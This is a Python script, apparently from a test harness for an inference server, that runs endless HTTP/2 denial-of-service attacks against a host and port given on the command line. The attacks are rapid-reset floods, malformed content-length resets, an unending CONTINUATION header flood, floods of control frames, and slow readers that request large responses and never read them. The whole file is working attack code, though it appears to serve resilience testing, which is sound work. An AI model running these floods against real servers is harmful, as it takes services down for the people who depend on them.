"""Attacks on an address that go on until their process is ended, as a program of its own so that whoever measures
meanwhile keeps its processor to itself:

    attackers.py ATTACK HOST PORT
"""

import contextlib
import itertools
import json
import socket
import struct
import sys
import threading
import time

from support import frames

PIECE = 1000  # frames or requests that are sent at once
SLOW_READERS = 50

INFER = b"/v2/models/identity_int32/infer"
BODY = json.dumps({"inputs": [{"name": "INPUT0", "datatype": "INT32", "shape": [1, 2], "data": [1, 2]}]}).encode()
LARGE = json.dumps(
    {"inputs": [{"name": "INPUT0", "datatype": "INT32", "shape": [1, 100_000], "data": [123_456] * 100_000}]}
).encode()

USELESS = {
    "ping": frames.frame(frames.PING, 0, 0, b"pingping"),
    "settings": frames.frame(frames.SETTINGS, 0, 0),
    "priority": frames.frame(frames.PRIORITY, 0, 7, b"\0\0\0\0\x10"),
    "window_update": frames.frame(frames.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
    "table_size": frames.frame(frames.SETTINGS, 0, 0, struct.pack(">HI", 1, 0)),
    "empty_data": frames.frame(frames.DATA, 0, 1),
}


def useless(kind):
    """Endless pieces of a flood of one kind of frame; stream 1 is open meanwhile."""
    yield frames.open_request(1, INFER)
    yield from itertools.repeat(USELESS[kind] * PIECE)


def reset(stream, whole):
    data = frames.frame(frames.DATA, frames.END_STREAM, stream, BODY) if whole else b""
    return frames.open_request(stream, INFER) + data + frames.cancel(stream)


def resets(whole=False):
    """Endless pieces of requests for an inference, `whole` or without their body, each taken back at once."""
    for first in range(1, 2**31 - 2 * PIECE, 2 * PIECE):
        yield b"".join(reset(stream, whole) for stream in range(first, first + 2 * PIECE, 2))


def made_resets():
    """Endless pieces of requests that the server has to reset: their bodies are longer than they say."""
    head = frames.field(b"content-length", b"1")
    for first in range(1, 2**31 - 2 * PIECE, 2 * PIECE):
        yield b"".join(
            frames.open_request(stream, INFER, more=head) + frames.frame(frames.DATA, 0, stream, b"xx")
            for stream in range(first, first + 2 * PIECE, 2)
        )


def endless_head():
    """One head that never ends, in fields that no table keeps."""
    yield frames.frame(frames.HEADERS, frames.END_STREAM, 1, b"\x83\x86\x84")
    fields = b"".join(frames.field(b"x" * 100, b"y" * 100) for _ in range(20))
    yield from itertools.repeat(frames.frame(frames.CONTINUATION, 0, 1, fields) * PIECE)


ATTACKS = {kind: lambda kind=kind: useless(kind) for kind in USELESS}
ATTACKS |= {"rapid_reset": resets, "rapid_reset_of_whole_requests": lambda: resets(whole=True)}
ATTACKS |= {"made_reset": made_resets, "endless_head": endless_head}


def send(connection, pieces):
    """Until the peer does not take any more. @return how many pieces it took."""
    taken = 0
    with contextlib.suppress(OSError):
        connection.sendall(frames.HELLO)
        for piece in pieces:
            connection.sendall(piece)
            taken += 1
    return taken


def read_all(connection):
    parts = []
    with contextlib.suppress(OSError):
        while part := connection.recv(65536):
            parts.append(part)
    return b"".join(parts)


def read_until_closed(connection):
    """Whoever sends meanwhile is stopped at the end."""
    read_all(connection)
    with contextlib.suppress(OSError):
        connection.shutdown(socket.SHUT_RDWR)


def flood(address, pieces):
    with socket.create_connection(address, 10) as connection:
        reader = threading.Thread(target=read_until_closed, args=[connection])
        reader.start()
        send(connection, pieces)
        reader.join()


def ask_and_not_read(address):
    """Large answers are asked for on many connections, and not taken."""
    data = b"".join(
        frames.frame(frames.DATA, 0, 1, LARGE[begin:begin + 16384]) for begin in range(0, len(LARGE), 16384)
    )
    open_window = frames.frame(frames.SETTINGS, 0, 0, struct.pack(">HI", 4, 2**30))
    open_window += frames.frame(frames.WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**30))
    asked = []
    for _ in range(SLOW_READERS):
        connection = socket.socket()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.connect(address)
        head = frames.open_request(1, INFER)
        connection.sendall(frames.HELLO + open_window + head + data + frames.frame(frames.DATA, frames.END_STREAM, 1))
        asked.append(connection)
    return asked


def main():
    attack, host, port = sys.argv[1:]
    address = (host, int(port))
    while True:
        if attack == "slow_readers":
            connections = ask_and_not_read(address)
            time.sleep(3600)
            del connections
        flood(address, ATTACKS[attack]())


if __name__ == "__main__":
    main()
